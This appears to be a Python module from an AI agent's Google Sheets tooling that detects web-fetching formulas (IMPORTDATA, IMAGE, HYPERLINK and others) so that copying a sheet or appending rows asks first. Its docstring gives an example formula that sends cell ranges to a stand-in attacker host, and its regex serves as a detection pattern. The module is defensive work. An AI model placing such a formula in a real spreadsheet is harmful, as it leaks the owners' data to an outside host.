"""The formulas of a Google Sheet that can send its cells to a web address, read with the Sheets API.

IMPORTDATA, IMPORTXML, IMPORTHTML, IMPORTFEED and IMAGE fetch an address when the sheet opens,
IMPORTRANGE reaches another spreadsheet, and HYPERLINK makes a link one click away: whatever the
formula puts in that address (=IMAGE("https://evil.example/?d="&JOIN(",",A2:B50))) leaves the
workspace. A copy of someone else's Sheet keeps its formulas, and rows added under them later reach
them too, so copying such a sheet and adding rows to one ask first (drive_copy, sheets_append).
"""
import re

from app import google_api
from app.tools.sheet_cells import formulas
from app.tools.sheet_ranges import quoted

FETCHING = re.compile(r"\b(IMPORT(DATA|XML|HTML|FEED|RANGE)|IMAGE|HYPERLINK)\s*\(", re.IGNORECASE)
MOST_CELLS = 500_000  # the grid a spreadsheet's formulas are read from at most; a larger one asks first unread
SHOWN = 5  # formulas a card names, the first ones
LONGEST = 200  # characters of each shown


def web_formulas(ctx, spreadsheet_id: str) -> dict:
    """For a card: {"web_formulas": the first few such formulas, "web_formulas_count" past them}, or
    {"web_formulas_unread": the grid's cells} when the spreadsheet is too large to read; {} when none.
    Every tab is read in one request, each formula as written (valueRenderOption FORMULA)."""
    spreadsheets = ctx.service("sheets").spreadsheets()
    fields = "sheets(properties(title,gridProperties(rowCount,columnCount)))"
    book = google_api.execute(spreadsheets.get(spreadsheetId=spreadsheet_id, fields=fields))
    grids = [sheet["properties"] for sheet in book.get("sheets", []) if "gridProperties" in sheet["properties"]]  # not charts
    cells = sum(grid["gridProperties"].get("rowCount", 0) * grid["gridProperties"].get("columnCount", 0) for grid in grids)
    if cells > MOST_CELLS:
        return {"web_formulas_unread": cells}
    if not grids:
        return {}
    read = spreadsheets.values().batchGet(spreadsheetId=spreadsheet_id, ranges=[quoted(grid["title"]) for grid in grids],
                                          valueRenderOption="FORMULA", majorDimension="ROWS")
    found = [cell for part in google_api.execute(read).get("valueRanges", []) for cell in formulas(part.get("values", []))
             if FETCHING.search(cell)]
    distinct = list(dict.fromkeys(found))
    if not distinct:
        return {}
    shown = {"web_formulas": [cell if len(cell) <= LONGEST else cell[:LONGEST] + "…" for cell in distinct[:SHOWN]]}
    return {**shown, "web_formulas_count": len(distinct)} if len(distinct) > SHOWN else shown
